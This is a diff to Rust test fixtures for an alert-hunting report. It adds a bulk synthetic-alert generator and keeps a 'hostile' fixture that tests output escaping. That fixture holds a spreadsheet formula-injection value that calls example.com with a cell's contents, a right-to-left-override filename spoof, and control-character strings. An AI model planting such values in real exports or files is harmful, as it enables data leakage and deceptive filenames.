@@ -123,7 +123,8 @@ pub fn hostile_report() -> HuntReport {
         String::new(),
         "one, two".into(),
     ];
-    first.namespaces = vec!["שלום".into(), "漢字漢字".into(), "👩\u{200d}💻".into(), "\u{202e}gnp.exe".into()];
+    first.namespaces =
+        vec!["שלום".into(), "漢字漢字".into(), "👩\u{200d}💻".into(), "\u{202e}gnp.exe".into()];
     first.secrets = vec![format!("prod/{}/{}", "n".repeat(63), "s".repeat(253)), "\tx".into(), "\rx".into()];
     first.request_uris = vec!["=HYPERLINK(\"http://example.com/?\"&A1)".into(), "-2+3".into()];
     let mut second = alert("");
@@ -132,3 +133,24 @@ pub fn hostile_report() -> HuntReport {
     second.response_codes = Vec::new();
     with(vec![first, second])
 }
+
+/// So many alerts by three hundred users over a month.
+pub fn many(alerts: usize) -> HuntReport {
+    with(
+        (0..alerts)
+            .map(|n| {
+                let (day, hour, minute) = (n * 7 % 28 + 1, n % 24, n % 60);
+                let mut alert = alert(&format!("user-{:03}", n % 300));
+                alert.alert_id = format!("{n:016x}");
+                alert.severity = if n % 3 == 0 { Severity::High } else { Severity::Medium };
+                alert.peak_distinct = 15 + (n % 40) as i64;
+                alert.first_seen = format!("2026-11-{day:02}T{hour:02}:{minute:02}:00.000000Z");
+                alert.crossed_at = format!("2026-11-{day:02}T{hour:02}:{minute:02}:30.000000Z");
+                alert.last_seen = format!("2026-11-{day:02}T{hour:02}:{minute:02}:59.000000Z");
+                alert
+            })
+            .collect(),
+    )
+}
+
+pub use super::sample_evidence::{HostileSource, LargeSource, Source, grounds};
